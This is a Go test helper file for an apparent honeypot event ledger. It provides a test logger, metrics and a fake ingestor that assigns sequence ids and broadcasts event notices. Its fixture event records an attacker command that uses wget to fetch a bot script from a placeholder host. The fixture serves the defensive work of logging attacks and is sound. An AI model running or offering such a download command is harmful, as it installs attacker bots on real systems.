package handler

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"sync"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/V4T54L/honeyledger/internal/adapter/broadcast"
	"github.com/V4T54L/honeyledger/internal/adapter/metrics"
	"github.com/V4T54L/honeyledger/internal/domain"
)

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

func testMetrics() *metrics.PipelineMetrics {
	return metrics.NewPipelineMetrics(prometheus.NewRegistry())
}

// fakeIngestor assigns sequence ids from 1 and, when broker is set, broadcasts a new_event
// notice for every accepted event.
type fakeIngestor struct {
	mu        sync.Mutex
	next      uint64
	ingestErr error
	broker    *broadcast.Broker
	received  []domain.RawEvent
}

func (f *fakeIngestor) Decode(data []byte) (domain.RawEvent, error) {
	var raw domain.RawEvent
	if err := json.Unmarshal(data, &raw); err != nil {
		return domain.RawEvent{}, &domain.ValidationError{Reason: "malformed JSON"}
	}
	return raw, nil
}

func (f *fakeIngestor) Ingest(ctx context.Context, raw domain.RawEvent) (*domain.Event, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.ingestErr != nil {
		return nil, f.ingestErr
	}
	if raw.Command == "" {
		return nil, &domain.ValidationError{MissingFields: []string{"command"}}
	}
	f.next++
	f.received = append(f.received, raw)
	ev := &domain.Event{SequenceID: f.next, SourceIP: raw.SourceIP, Command: raw.Command, ThreatLevel: raw.ThreatLevel}
	if f.broker != nil {
		f.broker.Broadcast(domain.NewEventNotice(ev))
	}
	return ev, nil
}

const validEvent = `{"sourceIp":"203.0.113.7","command":"wget http://x/bot.sh","threatLevel":"high"}`
